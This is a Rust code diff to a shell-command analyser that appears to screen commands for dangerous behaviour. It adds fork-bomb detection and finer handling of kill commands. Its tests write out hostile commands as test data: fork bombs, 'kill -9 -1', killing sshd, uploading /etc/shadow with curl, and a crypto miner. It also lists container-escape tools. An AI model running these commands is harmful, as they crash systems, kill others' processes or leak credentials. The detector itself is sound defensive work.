@@ -7,6 +7,9 @@
 use super::paths::{mentions_escape, mentions_mining, normalize};
 use super::value::UNKNOWN_PART;
 
+mod functions;
+mod kill;
+
 /// What a command line does, as far as the rules care.
 #[derive(Debug, Default, Clone, PartialEq, Eq)]
 pub struct CommandFacts {
@@ -37,6 +40,9 @@ pub struct CommandFacts {
     pub python_sources: Vec<String>,
     /// An interpreter that reads its program from standard input (`python3 -`, `bash`).
     pub runs_stdin: bool,
+    /// Defines a shell function that runs itself twice, or in a pipe or the background
+    /// (`:(){ :|:& };:`).
+    pub fork_bomb: bool,
 }
 
 /// How deep `sh -c "sh -c ..."` is followed.
@@ -54,14 +60,17 @@ fn analyse_into(line: &str, depth: u32, facts: &mut CommandFacts) {
     }
     facts.reverse_shell |= line.contains("/dev/tcp/") || line.contains("/dev/udp/");
     facts.mining |= mentions_mining(line);
-    for pipeline in split_pipelines(line) {
+    facts.fork_bomb |= functions::defines_fork_bomb(line);
+    let pipelines = split_pipelines(line);
+    let own_pids = kill::own_pid_variables(&pipelines);
+    for pipeline in pipelines {
         let mut fetched = false;
         let mut decoded = false;
         let mut shell_in_pipe = false;
         let mut network_in_pipe = false;
-        for command in pipeline {
+        for command in pipeline.commands {
             let simple = Simple::new(&command);
-            simple.check(depth, facts);
+            simple.check(depth, &own_pids, facts);
             if fetched && simple.runs_code() || simple.runs_one_of(&facts.downloads) {
                 facts.fetch_then_run = true;
             }
@@ -83,7 +92,7 @@ fn analyse_into(line: &str, depth: u32, facts: &mut CommandFacts) {
 pub fn runs_downloaded(line: &str, downloads: &[String]) -> (bool, bool) {
     let (mut named, mut unknown) = (false, false);
     for pipeline in split_pipelines(line) {
-        for command in pipeline {
+        for command in pipeline.commands {
             let simple = Simple::new(&command);
             named |= simple.runs_one_of(downloads) && simple.name != "chmod";
             unknown |= simple.name.is_empty() && !command.is_empty()
@@ -102,10 +111,25 @@ enum Token {
     ReadFrom(String),
 }
 
+/// One pipeline: its commands, and whether it runs in the background (ends in `&`).
+struct Pipeline {
+    commands: Vec<Vec<Token>>,
+    background: bool,
+}
+
+impl Pipeline {
+    fn new() -> Pipeline {
+        Pipeline {
+            commands: vec![Vec::new()],
+            background: false,
+        }
+    }
+}
+
 /// Splits on `;`, `&`, `&&`, `||`, newlines and `$(`/backticks into pipelines, and each
 /// pipeline on `|` into commands of tokens. Quotes group words and are removed.
-fn split_pipelines(line: &str) -> Vec<Vec<Vec<Token>>> {
-    let mut pipelines = vec![vec![Vec::new()]];
+fn split_pipelines(line: &str) -> Vec<Pipeline> {
+    let mut pipelines = vec![Pipeline::new()];
     let mut word = String::new();
     let mut quote: Option<char> = None;
     let mut redirect: Option<bool> = None; // Some(true) for `>`, Some(false) for `<`
@@ -149,18 +173,20 @@ fn split_pipelines(line: &str) -> Vec<Vec<Vec<Token>>> {
             {
                 flush(&mut word, &mut redirect, &mut pipelines);
                 let pipe = c == '|' && chars.peek() != Some(&'|');
+                let background = c == '&' && !matches!(chars.peek(), Some('&' | '>'));
                 if c == '|' || c == '&' {
                     chars.next_if_eq(&c);
                 }
                 if c == '$' {
                     chars.next();
                 }
-                if pipe {
-                    if let Some(pipeline) = pipelines.last_mut() {
-                        pipeline.push(Vec::new());
+                match pipelines.last_mut() {
+                    Some(pipeline) if pipe => pipeline.commands.push(Vec::new()),
+                    Some(pipeline) => {
+                        pipeline.background = background;
+                        pipelines.push(Pipeline::new());
                     }
-                } else {
-                    pipelines.push(vec![Vec::new()]);
+                    None => {}
                 }
             }
             _ => word.push(c),
@@ -170,7 +196,7 @@ fn split_pipelines(line: &str) -> Vec<Vec<Vec<Token>>> {
     pipelines
 }
 
-fn flush(word: &mut String, redirect: &mut Option<bool>, pipelines: &mut [Vec<Vec<Token>>]) {
+fn flush(word: &mut String, redirect: &mut Option<bool>, pipelines: &mut [Pipeline]) {
     if word.is_empty() {
         return;
     }
@@ -180,7 +206,7 @@ fn flush(word: &mut String, redirect: &mut Option<bool>, pipelines: &mut [Vec<Ve
         Some(false) => Token::ReadFrom(text),
         None => Token::Word(text),
     };
-    if let Some(command) = pipelines.last_mut().and_then(|p| p.last_mut()) {
+    if let Some(command) = pipelines.last_mut().and_then(|p| p.commands.last_mut()) {
         command.push(token);
     }
 }
@@ -369,14 +395,15 @@ impl<'t> Simple<'t> {
             || matches!(self.name.as_str(), "perl" | "ruby" | "node" | "php")
     }
 
-    fn check(&self, depth: u32, facts: &mut CommandFacts) {
+    /// `own_pids`: the line's variables that hold one of its own pids (`pid=$!`).
+    fn check(&self, depth: u32, own_pids: &[String], facts: &mut CommandFacts) {
         facts.privilege |= self.privileged;
         facts.runs_stdin |= self.reads_code_from_stdin();
         if let Some(inner) = self.inner {
             analyse_into(inner, depth + 1, facts);
         }
         self.check_files(facts);
-        self.check_by_name(depth, facts);
+        self.check_by_name(depth, own_pids, facts);
         self.check_inline_code(facts);
     }
 
@@ -417,7 +444,7 @@ impl<'t> Simple<'t> {
         }
     }
 
-    fn check_by_name(&self, depth: u32, facts: &mut CommandFacts) {
+    fn check_by_name(&self, depth: u32, own_pids: &[String], facts: &mut CommandFacts) {
         let name = self.name.as_str();
         match name {
             _ if SHELLS.contains(&name) => self.check_shell(depth, facts),
@@ -437,7 +464,8 @@ impl<'t> Simple<'t> {
             "nsenter" | "mount" | "umount" | "insmod" | "modprobe" | "rmmod" | "unshare"
             | "chroot" | "docker" | "ctr" | "runc" => facts.escape = true,
             "setcap" | "capsh" => facts.capabilities = true,
-            "kill" | "pkill" | "killall" | "killall5" | "skill" => {
+            "kill" => facts.kills_others |= kill::signals_others(&self.args, own_pids),
+            "pkill" | "killall" | "killall5" | "skill" => {
                 facts.kills_others |= self.operands().any(|a| a != "$$");
             }
             "nc" | "ncat" | "netcat" => {
@@ -586,6 +614,7 @@ mod tests {
         assert!(analyse("mount -t cgroup -o rdma cgroup /tmp/x").escape);
         assert!(analyse("killall python3").kills_others);
         assert!(!analyse("kill -9 $$").kills_others);
+        assert!(analyse("kill -9 -1").kills_others);
         assert!(analyse("./xmrig -o pool:3333").mining);
         assert!(analyse("chmod u+s /tmp/sh").setid_bits);
         assert!(analyse("chmod 4755 /tmp/sh").setid_bits);
@@ -639,6 +668,57 @@ mod tests {
         // curl -F file=@/etc/shadow reads the file it uploads.
         assert!(analyse("curl -F file=@/etc/shadow https://x/").secret_read);
         assert!(!analyse("curl -F file=@report.pdf https://x/").secret_read);
+    }
+
+    #[test]
+    fn functions_that_run_themselves_twice_or_in_the_background_are_fork_bombs() {
+        // The classic `:(){ :|:& };:` and its renamings, spacings, the `function`
+        // keyword and a subshell body; a function called twice from outside, or calling
+        // itself once in the foreground, is not one, nor is the text inside quotes.
+        assert!(analyse(":(){ :|:& };:").fork_bomb);
+        assert!(analyse("bomb(){ bomb|bomb & }; bomb").fork_bomb);
+        assert!(analyse("f() { f & f; }; f").fork_bomb);
+        assert!(analyse("function boom { boom | boom & }; boom").fork_bomb);
+        assert!(analyse("function x() {\n  x &\n  x &\n}\nx").fork_bomb);
+        assert!(analyse("z() ( z | z & ); z").fork_bomb);
+        assert!(analyse("bash -c ':(){ :|:& };:'").fork_bomb);
+        assert!(!analyse("greet() { echo hi; }; greet; greet").fork_bomb);
+        assert!(!analyse("retry() { make || retry; }; retry").fork_bomb);
+        assert!(!analyse("echo ':(){ :|:& };:' > notes.txt").fork_bomb);
+        assert!(!analyse("sleep 5 & wait").fork_bomb);
+    }
+
+    #[test]
+    fn kill_of_every_process_init_or_a_looked_up_pid_kills_others() {
+        // pid -1 (every process), 0 (the group), 1 (init), any number or a pid from a
+        // substitution is someone else's; `$$`, `$!`, job specs and variables set from
+        // `$!` are the line's own, and signal 0 only probes.
+        for line in [
+            "kill -9 -1",
+            "kill -KILL -1",
+            "kill -s 9 -- -1",
+            "kill -SIGKILL -- -1",
+            "kill 1",
+            "kill -9 0",
+            "kill -TERM 4242",
+            "kill -9 $(pgrep sshd)",
+            "pgrep -f nginx | xargs kill -9",
+            "kill -9 $PPID",
+            "kill $victim",
+        ] {
+            assert!(analyse(line).kills_others, "{line}");
+        }
+        for line in [
+            "kill -9 $$",
+            "sleep 100 & kill $!",
+            "sleep 100 & pid=$!; sleep 1; kill -TERM \"$pid\"",
+            "sleep 9 & kill %1",
+            "setsid sleep 9 & kill -TERM -$!",
+            "kill -0 1",
+            "kill -l",
+        ] {
+            assert!(!analyse(line).kills_others, "{line}");
+        }
     }
 
     #[test]
